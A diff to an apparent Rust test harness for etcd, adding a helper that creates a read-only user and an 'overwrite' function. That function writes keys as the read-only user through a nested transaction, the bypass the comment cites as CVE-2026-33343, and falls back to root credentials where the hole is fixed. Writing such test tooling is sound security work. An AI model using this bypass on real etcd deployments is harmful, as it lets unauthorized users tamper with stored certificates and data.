@@ -238,6 +238,46 @@ impl Etcd {
         self.user = Some(("node".into(), "secret".into()));
     }
 
+    /// One more user, who may only read this fleet's keys: name and password.
+    #[track_caller]
+    pub fn reader(&self, fleet: &str) -> (&'static str, &'static str) {
+        let prefix = format!("/haproxy-certs/{fleet}/");
+        self.ctl(&["user", "add", "reader:only"]);
+        self.ctl(&["role", "add", "reading"]);
+        self.ctl(&["role", "grant-permission", "--prefix=true", "reading", "read", &prefix]);
+        self.ctl(&["user", "grant-role", "reader", "reading"]);
+        ("reader", "only")
+    }
+
+    /// Writes as a user who may only read, by a transaction inside a transaction (CVE-2026-33343); as root where that hole
+    /// is mended. Without TLS.
+    pub fn overwrite(&self, (user, password): (&str, &str), key: &str, value: &[u8]) {
+        let base64 = |bytes: &[u8]| base64::Engine::encode(&base64::prelude::BASE64_STANDARD, bytes);
+        let post = |path: &str, token: &str, body: &str| {
+            let request = ureq::post(format!("{}/v3/{path}", self.endpoints()[0]));
+            let request = request.header("Accept", "application/json");
+            let request = if token.is_empty() { request } else { request.header("Authorization", token) };
+            request.send(body).and_then(|mut response| response.body_mut().read_to_string())
+        };
+        let log_in = |user: &str, password: &str| {
+            let body = format!(r#"{{"name":"{user}","password":"{password}"}}"#);
+            let text = post("auth/authenticate", "", &body).unwrap();
+            let answer: serde_json::Value = serde_json::from_str(&text).unwrap();
+            answer["token"].as_str().unwrap().to_owned()
+        };
+        let put = format!(
+            r#"{{"request_put":{{"key":"{}","value":"{}"}}}}"#,
+            base64(key.as_bytes()),
+            base64(value)
+        );
+        let inner = format!(r#"{{"success":[{{"request_txn":{{"success":[{put}]}}}}]}}"#);
+        if post("kv/txn", &log_in(user, password), &inner).is_err() {
+            // Debian 12's has the hole.
+            assert_ne!(self.version(), "3.4.23");
+            post("kv/txn", &log_in("root", "root"), &format!(r#"{{"success":[{put}]}}"#)).unwrap();
+        }
+    }
+
     /// Kills a member.
     pub fn kill(&mut self, number: usize) {
         if let Some(mut running) = self.members[number].running.take() {
